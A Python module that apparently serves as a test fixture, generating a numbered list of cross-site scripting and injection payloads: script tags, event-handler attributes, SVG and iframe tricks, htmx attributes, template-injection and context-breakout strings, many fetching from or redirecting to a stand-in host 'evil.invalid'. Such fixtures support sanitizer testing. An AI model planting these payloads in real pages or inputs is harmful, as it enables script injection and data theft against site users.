"""Texts that would run or fetch something if they ever became markup, script, style or an address."""

from __future__ import annotations

HOST = "evil.invalid"

_SCRIPTS = ("window.hit({n})", "fetch('http://evil.invalid/{n}')", "top.location='http://evil.invalid/{n}'")
_SHAPES = (
    "<script>{js}</script>",
    "<script src=//evil.invalid/{n}.js></script>",
    "<img src=x onerror={js}>",
    "<img src=http://evil.invalid/{n}.png>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><use href='http://evil.invalid/{n}.svg#x'/></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<iframe src=http://evil.invalid/{n}></iframe>",
    "<a href='javascript:{js}' autofocus onfocus={js}>x</a>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=http://evil.invalid/{n}.ogg autoplay></audio>",
    "<object data='javascript:{js}'></object>",
    "<embed src=http://evil.invalid/{n}.swf>",
    "<form action=http://evil.invalid/{n}><input type=submit autofocus onfocus={js}></form>",
    "<link rel=stylesheet href=http://evil.invalid/{n}.css>",
    "<link rel=prefetch href=http://evil.invalid/{n}>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/{n}'>",
    "<base href=http://evil.invalid/>",
    "<style>@import 'http://evil.invalid/{n}.css';</style>",
    "<div style='background:url(http://evil.invalid/{n}.png)'>x</div>",
    "<div hx-get='http://evil.invalid/{n}' hx-trigger='load'>x</div>",
    "<div hx-get='/events' hx-trigger='load' hx-on::after-request='{js}'>x</div>",
    "<div data-hx-get='http://evil.invalid/{n}' data-hx-trigger='load'>x</div>",
    "<div hx-vals='js:{{x: {js}}}' hx-get='/' hx-trigger='load'>x</div>",
    "<div hx-ext='morph' hx-swap-oob='true' id='content'><img src=x onerror={js}></div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<template><script>{js}</script></template><marquee onstart={js}>",
    "{{{{ 7 * 7 }}}}{{% for x in ().__class__.__base__.__subclasses__() %}}<img src=x onerror={js}>{{% endfor %}}",
    "${{{js}}}`${{{js}}}`';{js}//\";{js}//",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{js}//'>",
    "&lt;script&gt;{js}&lt;/script&gt;&#60;script&#62;{js}&#60;/script&#62;",
)
_PLACES = (
    "{shape}",
    '">{shape}',
    "'>{shape}",
    "</td></tr></table>{shape}",
    "</script>{shape}",
    "</title></style></textarea></noscript>{shape}",
    "--></svg>]]>{shape}",
    "\u2028\u202e\ufeff\x00{shape}",
)


def payloads() -> list[str]:
    """All of them, each with a number of its own."""
    found: list[str] = []
    for place in _PLACES:
        for shape in _SHAPES:
            number = len(found)
            script = _SCRIPTS[number % len(_SCRIPTS)].format(n=number)
            found.append(place.format(shape=shape.format(js=script, n=number)))
    return found
